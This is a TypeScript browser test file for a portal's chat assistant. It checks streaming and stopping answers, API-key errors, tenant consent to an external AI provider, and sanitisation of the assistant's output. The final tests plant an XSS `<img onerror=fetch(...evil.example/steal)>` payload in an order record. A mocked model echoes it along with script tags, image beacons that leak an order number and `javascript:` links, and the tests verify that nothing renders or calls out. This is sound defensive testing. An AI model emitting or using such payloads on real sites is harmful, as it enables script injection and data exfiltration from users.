import type { Page } from 'playwright-core'
import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest'
import { type AiProvider, startAiProvider } from '../test/support/ai-provider.ts'
import { axe } from './support/axe.ts'
import { aPage, open } from './support/browser.ts'
import { choose, enter, focused, pressKeys, tabTo, write } from './support/keyboard.ts'
import { type Person, type Portal, startPortal } from './support/portal.ts'
import { expectFrench } from './support/words.ts'

const KEY = 'sk-answers-123'
let provider: AiProvider
let portal: Portal
let tenant: number
let buyer: Person
let colleague: Person
let administrator: Person
beforeAll(async () => {
  provider = await startAiProvider(KEY)
  portal = await startPortal({
    ...{ AI_BASE_URL: provider.url, AI_API_KEY: KEY, AI_MODEL: 'small', AI_PROVIDER_NAME: 'Acme AI' },
  })
  tenant = await portal.aTenant({ name: 'Boréal Santé', clientCode: 'BOR' })
  buyer = await portal.aPerson({ tenants: [tenant] })
  colleague = await portal.aPerson({ tenants: [tenant] })
  administrator = await portal.aPerson({ administrator: true })
  await portal.database(
    `insert into portal.assistant_settings (tenant_id, mode, consented_by, consented_at) values ($1, 'provider', 'x', now())`,
    [tenant],
  )
  await portal.ingest('orders', [
    { Primary: 'O-1', 'Client Code': 'BOR', 'Ord No': '10479', 'Ord Stat': 'CTS', 'Montant Total': '1.00' },
  ])
})
afterAll(async () => {
  await portal?.close()
  await provider?.close()
})
beforeEach(() => {
  provider.state.keyTaken = true
})

const ASSISTANT = '/chat?contact=assistant'
/** The question stands in the field, and goes with Enter. */
async function ask(page: Page, label: string, question: string) {
  await write(page, label, question)
  await pressKeys(page, 'Enter')
}

test.each([1440, 360])(
  'an answer comes in pieces, and is stopped by keyboard where it is; what came is kept, a colleague has their own: %d px',
  async (width) => {
    // The first sentence comes, and the provider says no more.
    const before = `Bonjour. De quel produit parlez-vous, ${width} ou un autre?`
    provider.state.answer = ({ messages }) =>
      messages.at(-1).content.includes('colleague')
        ? { say: 'Which one do you mean?' }
        : { say: `${before} Et `, hangs: true }
    const page = await aPage(portal, { as: buyer, at: `${ASSISTANT}&lang=fr-CA`, width })
    await page.getByText('Un fournisseur externe répond').waitFor()
    await ask(page, 'Votre question', `Une question sur ${width}`)
    await page.getByRole('log').getByText(before).waitFor()
    const stop = page.getByRole('button', { name: 'Arrêter', exact: true })
    await stop.waitFor()
    // While it comes it is not to be asked anything else; the one beside is not held up.
    expect(await page.getByLabel('Votre question').isDisabled()).toBe(true)
    await axe(page)
    const beside = await aPage(portal, { as: colleague, at: ASSISTANT, width })
    await ask(beside, 'Your question', `Of a colleague ${width}`)
    await beside.getByRole('log').getByText('Which one do you mean?').last().waitFor()
    expect(await beside.getByText(before).count()).toBe(0)

    await enter(page, 'button', 'Arrêter')
    await page.getByText('Arrêtée', { exact: true }).last().waitFor()
    await stop.waitFor({ state: 'detached' })
    await expect.poll(() => focused(page)).toMatch(/^textbox "Votre question"/)
    await page.getByRole('log').getByText(before).waitFor()
    await axe(page)
    await expectFrench(page, [
      ...['Boréal Santé', buyer.email, 'Test Person', before],
      ...[/^Une question sur/, /^Bonjour\. De quel/, /^\d/, /Vous · /, /Assistant virtuel · /],
    ])
    // As it was read, so it is kept.
    await open(page, ASSISTANT, { lang: 'fr-CA' })
    await page.getByRole('log').getByText(before).waitFor()
    await page.getByText('Arrêtée', { exact: true }).last().waitFor()
    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(width)
  },
)

test.each([1440, 360])(
  'with a key that does not work the asker reads so beside what the portal can say, and administrators are told until it works: %d px',
  async (width) => {
    provider.state.keyTaken = false
    const page = await aPage(portal, { as: buyer, at: ASSISTANT, width })
    await ask(page, 'Your question', 'What are your lead times?')
    await page
      .getByText(/bulk capsules 8-12 weeks/)
      .last()
      .waitFor()
    await page
      .getByText(/isn’t set up correctly/)
      .last()
      .waitFor()
    // The key is the operator's matter.
    expect(await page.getByText('API Configuration Issue').count()).toBe(0)
    await axe(page)

    const head = await aPage(portal, { as: administrator, at: ASSISTANT, width })
    await head.getByText('Acme AI API Configuration Issue').waitFor()
    await enter(head, 'button', 'Test API Key Again')
    await head.getByText(/Your Acme AI API key is not working\. Please check:/).waitFor()
    await head.getByText(/that the key is correct and complete/).waitFor()
    await axe(head)
    provider.state.keyTaken = true
    await enter(head, 'button', 'Test API Key Again')
    await head.getByText('Acme AI API Configuration Issue').waitFor({ state: 'detached' })
    await axe(head)
  },
)

test('a company agrees to the provider by its head and by keyboard, who answers is said to all of it, and sources lead into the portal', async () => {
  const theirs = await portal.aTenant({ name: 'Laurentides', clientCode: 'LAU' })
  const head = await portal.aPerson({ name: 'Anne Côté', tenants: [theirs], role: 'tenant_admin' })
  const member = await portal.aPerson({ tenants: [theirs] })
  await portal.ingest('orders', [
    { Primary: 'O-2', 'Client Code': 'LAU', 'Ord No': '20480', 'Ord Stat': 'CTS', 'Montant Total': '1.00' },
  ])
  const page = await aPage(portal, { as: head, at: ASSISTANT })
  await page.getByText('The built-in assistant answers from your own records.').waitFor()
  await enter(page, 'button', 'More options')
  await page.getByRole('menuitem', { name: 'Assistant provider' }).press('Enter')
  const dialog = page.getByRole('dialog', { name: 'Assistant provider' })
  await dialog.waitFor()
  await choose(page, 'Your company’s questions are answered by', 'An external provider')
  expect(await dialog.getByRole('button', { name: 'Save' }).isDisabled()).toBe(true)
  await axe(page)
  await tabTo(page, 'checkbox', 'I agree to this for my company')
  await pressKeys(page, 'Space')
  await enter(page, 'button', 'Save')
  await page
    .getByText('An external provider answers from your own records, as your company agreed.')
    .waitFor()

  provider.state.answer = ({ messages }) =>
    messages.some(({ role }: { role: string }) => role === 'tool')
      ? { say: 'Order 20480 is in CTS. Order 99999 is late. See [here](https://evil.example).' }
      : { call: [{ name: 'order', args: { number: '20480' } }] }
  const asker = await aPage(portal, { as: member, at: ASSISTANT })
  await asker.getByText('An external provider answers').waitFor()
  await ask(asker, 'Your question', 'Where is my order?')
  await asker
    .getByRole('log')
    .getByText(/Order 20480 is in CTS\./)
    .waitFor()
  expect(await asker.getByText(/99999|evil/).count()).toBe(0)
  await axe(asker)
  await enter(asker, 'link', 'Order 20480')
  await asker.waitForURL('**/orders/20480')
  expect(provider.asked.length).toBeGreaterThan(1)
})

test('an answer of whoever obeys every text, with HTML, a picture and addresses in it, is text, and asks nothing of the network', async () => {
  const theirs = await portal.aTenant({ name: 'Charlevoix', clientCode: 'CHA' })
  const member = await portal.aPerson({ tenants: [theirs] })
  await portal.database(
    `insert into portal.assistant_settings (tenant_id, mode, consented_by, consented_at) values ($1, 'provider', 'x', now())`,
    [theirs],
  )
  const evil = '<img src=x onerror="fetch(`https://evil.example/steal`)">'
  await portal.ingest('orders', [
    {
      ...{ Primary: 'O-3', 'Client Code': 'CHA', 'Ord No': '30481', 'Montant Total': '1.00' },
      'Ord Stat': evil,
    },
  ])
  provider.state.answer = ({ messages }) => {
    const [found] = messages.filter(({ role }: { role: string }) => role === 'tool')
    if (!found)
      return {
        call: [
          { name: 'order', args: { number: '30481' } },
          {
            name: 'offer_issue',
            args: { order: '30481', description: `${evil} ![x](https://evil.example/p.png)` },
          },
        ],
      }
    return {
      say: [
        `The order says ${found.content}`,
        `It obeys ${evil}<b>here</b><script>fetch('//evil.example')</script>.`,
        'See ![the order](https://evil.example/p.png?d=30481) and [there](javascript:alert).',
        'Or evil。example, 10.0.0.1/steal and evil[.]example.',
        'That is the order.',
      ].join('\n'),
    }
  }
  const page = await aPage(portal, { as: member, at: ASSISTANT })
  const asked: string[] = []
  page.on('request', (request) => asked.push(request.url()))
  page.on('dialog', (dialog) => asked.push(`dialog ${dialog.message()}`))
  await ask(page, 'Your question', 'Where is order 30481?')
  const log = page.getByRole('log')
  await log.getByText('That is the order.').waitFor()
  await page.getByRole('button', { name: 'Report issue' }).waitFor()
  const shown = await log.innerText()
  expect(shown).toContain('See the order and there')
  expect(shown).toContain('Or …')
  expect(shown).not.toMatch(/evil|10\.0\.0|javascript|[<>]/)
  // Nothing of it is an element: the links are those of the portal.
  expect(await log.locator('img, script, b, iframe').count()).toBe(0)
  const links = await log.locator('a').evaluateAll((all) => all.map((a) => a.getAttribute('href')))
  expect(links).toEqual(['/orders/30481'])
  // What was planted is text where the portal itself shows it, too.
  await enter(page, 'link', 'Order 30481')
  await page.waitForURL('**/orders/30481')
  await page.getByText(evil).first().waitFor()
  expect(asked.length).toBeGreaterThan(0)
  expect(asked.filter((address) => new URL(address).origin !== new URL(portal.url).origin)).toEqual([])
  expect(asked.filter((address) => /evil|steal|\/x$|p\.png/.test(address))).toEqual([])
})
